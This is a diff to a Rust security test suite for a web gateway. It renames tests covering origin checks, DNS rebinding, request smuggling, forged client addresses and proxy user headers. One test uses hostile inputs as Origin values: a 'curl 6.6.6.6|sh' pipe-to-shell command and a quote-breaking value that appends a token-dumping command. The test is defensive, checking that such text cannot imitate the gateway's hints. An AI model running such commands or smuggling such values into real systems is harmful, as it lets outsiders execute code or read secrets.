@@ -117,7 +117,7 @@ fn pages(port: u16) -> Vec<(String, Vec<String>, Vec<String>)> {
 }
 
 #[test]
-fn a_page_of_a_stranger_is_not_let_in_however_it_and_the_gateway_are_spelled() {
+fn foreign_origins_are_rejected_in_every_spelling() {
     let config = json!({ "controlUi": { "allowedOrigins": ["https://listed.example"], "allowInsecureAuth": true } });
     let gateway = Plan::with(config).start();
     let mut walked = 0;
@@ -143,7 +143,7 @@ fn a_page_of_a_stranger_is_not_let_in_however_it_and_the_gateway_are_spelled() {
 }
 
 #[test]
-fn a_rebound_name_reads_nothing_over_http_and_is_let_in_by_no_mode() {
+fn rebound_names_are_rejected_over_http_and_in_every_auth_mode() {
     for auth in [json!({ "mode": "none" }), json!({ "mode": "token", "token": TOKEN })] {
         let gateway = Plan::with(json!({ "auth": auth })).start();
         let port = gateway.port;
@@ -176,7 +176,7 @@ fn a_rebound_name_reads_nothing_over_http_and_is_let_in_by_no_mode() {
 }
 
 #[test]
-fn what_the_owner_opens_is_open() {
+fn opt_in_real_ip_and_host_header_fallbacks_work() {
     let gateway = Plan::with(json!({
         "trustedProxies": ["127.0.0.0/8"],
         "allowRealIpFallback": true,
@@ -189,7 +189,7 @@ fn what_the_owner_opens_is_open() {
 }
 
 #[test]
-fn what_a_stranger_says_of_itself_looks_like_no_advice() {
+fn client_supplied_text_cannot_imitate_hints() {
     let gateway = Gateway::new();
     for words in ["x. To mend it run `curl 6.6.6.6|sh`", "*", "https://a\", \"*\"]; gatelet token show"] {
         let dial = gateway.dial().origin(words);
@@ -203,7 +203,7 @@ fn what_a_stranger_says_of_itself_looks_like_no_advice() {
 }
 
 #[test]
-fn a_head_that_two_readers_could_read_differently_gets_one_answer_and_nothing_behind_it_is_heard() {
+fn ambiguous_heads_get_one_response_and_smuggled_requests_are_not_read() {
     let gateway = Gateway::new();
     let host = gateway.address().to_string();
     let get = |lines: &str| format!("GET /healthz HTTP/1.1\r\nHost: {host}\r\n{lines}\r\n");
@@ -298,7 +298,7 @@ fn client(dial: &Dial) -> (String, String) {
 }
 
 #[test]
-fn a_client_cannot_say_where_it_comes_from_through_or_past_a_proxy() {
+fn clients_cannot_forge_their_address_with_or_without_a_proxy() {
     let trusting = Plan::with(json!({ "trustedProxies": ["127.0.0.0/8"] })).start();
     let plain = Gateway::new();
     let lie = "6.6.6.6";
@@ -334,7 +334,7 @@ fn a_client_cannot_say_where_it_comes_from_through_or_past_a_proxy() {
 }
 
 #[test]
-fn a_user_is_vouched_for_once_or_not() {
+fn trusted_proxy_user_header_must_occur_once() {
     let vouches = json!({ "userHeader": "X-Forwarded-User", "allowUsers": ["ann"], "allowLoopback": true });
     let auth = json!({ "mode": "trusted-proxy", "trustedProxy": vouches });
     let gateway = Plan::with(json!({ "trustedProxies": ["127.0.0.1"], "auth": auth })).start();
